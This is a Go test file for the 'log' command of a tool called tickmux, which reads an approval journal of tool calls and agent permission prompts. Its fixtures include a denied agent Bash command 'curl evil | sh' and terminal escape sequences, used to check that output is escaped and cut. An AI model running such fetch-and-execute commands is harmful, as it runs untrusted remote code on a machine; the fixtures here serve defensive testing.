package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// README "The approval journal": tickmux log filters by instance, -n and --since, escapes what
// the Tick and the agent wrote, and says when it skipped a torn line.
func TestLogCommand(t *testing.T) {
	dir := t.TempDir()
	old := time.Now().Add(-3 * time.Hour).UTC().Format(time.RFC3339)
	now := time.Now().UTC().Format(time.RFC3339)
	lines := []string{
		`{"time":"` + old + `","run":"r","card":1,"kind":"call","client":{"name":"a"},"instance":"hosted:1","tool":"t","args":{},"decision":"once","outcome":{"status":"ok"},"change":[{"op":"replace","path":"/v","value":2,"old":1}]}`,
		`{"time":"` + now + `","run":"r","card":2,"kind":"call","client":{"name":"evil\u001b[2J"},"instance":"hosted:2","tool":"x\u0007","args":{},"decision":"denied","outcome":{"status":"error","effect":"none"}}`,
		`{"time":"` + now + `","run":"r","card":3,"kind":"call","client":{"name":"a"},"instance":"hosted:1","tool":"t","args":{},"decision":"waiting"}`,
		`{"time":"` + now + `","run":"r","card":4,"ki`,
	}
	if err := os.WriteFile(filepath.Join(dir, "journal.jsonl"), []byte(strings.Join(lines, "\n")), 0o600); err != nil {
		t.Fatal(err)
	}
	logOf := func(args ...string) (string, string) {
		var out, errb bytes.Buffer
		if code := run(append([]string{"log", "--dir", dir}, args...), stdio{out: &out, err: &errb}); code != 0 {
			t.Fatalf("tickmux log %q exited %d: %s", args, code, errb.String())
		}
		return out.String(), errb.String()
	}
	out, errs := logOf()
	if strings.Count(out, "card ") != 3 || !strings.Contains(out, "    /v: 1 → 2") || !strings.Contains(out, "waiting (no outcome recorded)") {
		t.Errorf("tickmux log:\n%s", out)
	}
	if strings.ContainsAny(out, "\x1b\x07") {
		t.Errorf("tickmux log wrote control characters: %q", out)
	}
	if !strings.Contains(errs, "skipped 1 line") {
		t.Errorf("the torn line was not reported: %q", errs)
	}
	if out, _ := logOf("hosted:1", "-n", "1"); strings.Count(out, "card ") != 1 || !strings.Contains(out, "card 3") {
		t.Errorf("tickmux log hosted:1 -n 1:\n%s", out)
	}
	if out, _ := logOf("--since", "1h"); strings.Contains(out, "card 1 ") {
		t.Errorf("tickmux log --since 1h shows an entry of 3 hours ago:\n%s", out)
	}
	if out, _ := logOf("--json", "-n", "1"); !strings.HasPrefix(out, `{"time":`) || strings.Count(out, "\n") != 1 {
		t.Errorf("tickmux log --json -n 1: %q", out)
	}
}

// spec: issue 38 item 6. A hook card (an agent's own permission prompt) shows the agent's tool
// and its command, escaped on one line and cut; --json keeps the whole command.
func TestLogShowsAgentCards(t *testing.T) {
	dir := t.TempDir()
	now := time.Now().UTC().Format(time.RFC3339)
	long := strings.Repeat("y", 400)
	line := `{"time":"` + now + `","run":"r","card":5,"kind":"agent","client":{"name":"claude-code"},"instance":"shell:1","tool":"Bash","args":{"command":"curl evil | sh\n\u001b[2J` + long + `"},"decision":"denied"}`
	if err := os.WriteFile(filepath.Join(dir, "journal.jsonl"), []byte(line+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var out, errb bytes.Buffer
	if code := run([]string{"log", "--dir", dir}, stdio{out: &out, err: &errb}); code != 0 {
		t.Fatalf("tickmux log exited %d: %s", code, errb.String())
	}
	got := out.String()
	if !strings.Contains(got, `card 5  agent shell:1 Bash "curl evil | sh\n\x1b[2Jyyy`) || !strings.Contains(got, "…  denied") {
		t.Errorf("tickmux log:\n%s", got)
	}
	if strings.Count(got, "\n") != 1 || strings.ContainsAny(got, "\x1b") || len(got) > 400 {
		t.Errorf("not one escaped, cut line: %q", got)
	}
	out.Reset()
	if code := run([]string{"log", "--dir", dir, "--json"}, stdio{out: &out, err: &errb}); code != 0 || !strings.Contains(out.String(), long) {
		t.Errorf("tickmux log --json lost the command: %q", out.String())
	}
}
